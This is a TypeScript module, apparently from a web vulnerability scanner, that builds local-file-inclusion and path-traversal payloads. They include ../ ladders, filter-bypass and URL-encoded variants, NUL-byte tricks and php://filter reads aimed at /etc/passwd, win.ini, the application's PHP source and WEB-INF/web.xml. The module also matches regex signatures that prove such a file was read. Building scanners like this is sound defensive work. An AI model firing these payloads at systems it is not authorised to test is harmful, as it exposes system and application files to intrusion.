// Payloads and file signatures for LFI (and the file-reading half of XXE). A signature is text only
// the real file contains; the payloads never contain it, so a reflected payload cannot match.

export interface FileSignature {
  file: string;
  /** Must match for the file to count as read. */
  pattern: RegExp;
}

export const FILE_SIGNATURES: readonly FileSignature[] = [
  // a passwd line for root: name, password placeholder, uid 0, gid 0
  { file: '/etc/passwd', pattern: /root:[^:\r\n<>]{0,40}:0:0:[^\r\n<>]{0,200}/ },
  // win.ini carries both sections on every Windows since 3.1
  { file: 'C:\\Windows\\win.ini', pattern: /\[fonts\][\s\S]{0,400}?\[extensions\]|\[extensions\][\s\S]{0,400}?\[fonts\]/i },
];

// The application's own files: a server-side source (an open tag and code, never sent to browsers
// by a working server) and the Java deployment descriptor. Matched on the answer with the HTML
// escapes of < and > undone, since viewers often show a file inside <pre>.
export const SOURCE_SIGNATURES: readonly FileSignature[] = [
  { file: 'server-side PHP source', pattern: /<\?php\b[\s\S]{0,2000}?(?:\$_(?:GET|POST|REQUEST|SERVER|COOKIE|FILES)\b|\b(?:echo|include|require|require_once|include_once|function|readfile|file_get_contents)\b)/ },
  { file: 'WEB-INF/web.xml', pattern: /<web-app\b[\s\S]{0,4000}?<\/web-app>|<servlet-(?:class|mapping)>[\s\S]{0,400}?<\/servlet-(?:class|mapping)>/ },
];

function unescapeAngles(text: string): string {
  return text.replace(/&lt;|&#0*60;|&#x0*3c;/gi, '<').replace(/&gt;|&#0*62;|&#x0*3e;/gi, '>').replace(/&quot;|&#0*34;/gi, '"');
}

/** A read of the application's own source or descriptor in `text`, or null. */
export function findSourceSignature(text: string): SignatureMatch | null {
  const plain = unescapeAngles(text);
  for (const s of SOURCE_SIGNATURES) {
    const m = s.pattern.exec(plain);
    if (m) return { file: s.file, matched: m[0].slice(0, 200) };
  }
  return null;
}

export interface SignatureMatch {
  file: string;
  matched: string;
}

export function findSignature(text: string): SignatureMatch | null {
  for (const s of FILE_SIGNATURES) {
    const m = s.pattern.exec(text);
    if (m) return { file: s.file, matched: m[0].slice(0, 200) };
  }
  return null;
}

/** Base64 runs long enough to hold a file, decoded; where a php://filter answer would be. */
export function decodedBase64Runs(text: string): { run: string; text: string }[] {
  const out: { run: string; text: string }[] = [];
  const re = /[A-Za-z0-9+/]{40,}={0,2}/g;
  for (let m = re.exec(text); m !== null && out.length < 20; m = re.exec(text)) {
    out.push({ run: m[0], text: Buffer.from(m[0], 'base64').toString('latin1') });
  }
  return out;
}

export interface LfiPayload {
  value: string;
  technique: string;
  /** The answer is base64 of the file (php://filter). */
  base64?: boolean;
  /** Aims at the application's own source or descriptor (proven by SOURCE_SIGNATURES). */
  own?: boolean;
}

/**
 * Reads of the application itself, for when system files are out of reach (a filter naming
 * /etc/passwd, a chroot, a Windows host): the running script through php://filter (base64, so PHP
 * does not run it) and by ../ back from the folder it reads, and WEB-INF/web.xml for Java.
 */
export function ownSourcePayloads(requestUrl: string, original: string): LfiPayload[] {
  let script = '';
  try {
    script = decodeURIComponent(new URL(requestUrl).pathname.split('/').pop() ?? '');
  } catch {
    // a malformed escape in the path: no script name to aim at
    script = '';
  }
  const out: LfiPayload[] = [];
  const php = /\.(?:php\d?|phtml|inc)$/i;
  if (php.test(script) || php.test(original)) {
    const target = php.test(script) ? script : original;
    out.push({ value: `php://filter/convert.base64-encode/resource=${target}`, technique: `php://filter base64 of the application's own ${target}`, base64: true, own: true });
    if (/^[\w-]+$/.test(original)) out.push({ value: `php://filter/convert.base64-encode/resource=${original}`, technique: `php://filter base64 of the included ${original}`, base64: true, own: true });
    if (php.test(script)) for (const up of ['', '../', '../../']) out.push({ value: `${up}${script}`, technique: `${up === '' ? 'the script name' : `${up} back to the script`} ${script}`, own: true });
  }
  if (!php.test(script) && !/\.(?:aspx?|cgi|pl|py|rb)$/i.test(script))
    for (const up of ['', '../', '../../']) out.push({ value: `${up}WEB-INF/web.xml`, technique: `${up === '' ? '' : `${up} then `}WEB-INF/web.xml (Java descriptor)`, own: true });
  return out;
}

const UP = '../';

/** Parameters whose name or value says "a file": they get every variant, others the short list. */
export function looksFileLike(name: string, value: string): boolean {
  if (/(^|[_\-.])(file|filename|path|page|doc|document|template|tpl|include|inc|view|lang|language|dir|folder|load|read|show|download|name|style|layout|module|content|conf|config|item|cat)s?($|[_\-.\]])/i.test(name)) return true;
  return /^[\w\-./\\]+\.[a-z0-9]{1,5}$/i.test(value) || value.includes('/') || value.includes('\\');
}

function extensionOf(value: string): string | null {
  const m = /\.([a-z0-9]{1,5})$/i.exec(value);
  return m ? `.${m[1]}` : null;
}

/** Ordered cheapest and most common first; the first that proves a read ends the parameter. */
export function lfiPayloads(original: string, fileLike: boolean): LfiPayload[] {
  const deep = UP.repeat(10);
  const list: LfiPayload[] = [
    { value: '/etc/passwd', technique: 'absolute path' },
    { value: `${deep}etc/passwd`, technique: 'traversal ../ x10' },
    { value: `${'....//'.repeat(10)}etc/passwd`, technique: 'traversal ....// (filter that strips ../ once)' },
    { value: 'php://filter/convert.base64-encode/resource=/etc/passwd', technique: 'PHP wrapper php://filter base64', base64: true },
  ];
  if (!fileLike) return list;
  const ext = extensionOf(original);
  list.push(
    // the insertion point encodes once more: the application sees these escapes and decodes them itself
    { value: `${'..%2f'.repeat(10)}etc%2fpasswd`, technique: 'traversal ..%2f (decoded by the application)' },
    { value: `${'%2e%2e%2f'.repeat(10)}etc%2fpasswd`, technique: 'traversal %2e%2e%2f (double URL-encoded)' },
    { value: `${deep}etc/passwd\u0000`, technique: 'traversal with NUL byte' },
    { value: 'C:\\Windows\\win.ini', technique: 'absolute Windows path' },
    { value: `${'..\\'.repeat(10)}Windows\\win.ini`, technique: 'traversal ..\\ x10 (Windows)' },
  );
  if (ext) list.push({ value: `${deep}etc/passwd\u0000${ext}`, technique: `traversal with NUL byte and ${ext}` });
  // shallower ladders for applications that do not clamp at the root (prefix-joined relative paths)
  for (let d = 1; d <= 9; d++) list.push({ value: `${UP.repeat(d)}etc/passwd`, technique: `traversal ../ x${d}` });
  return list;
}
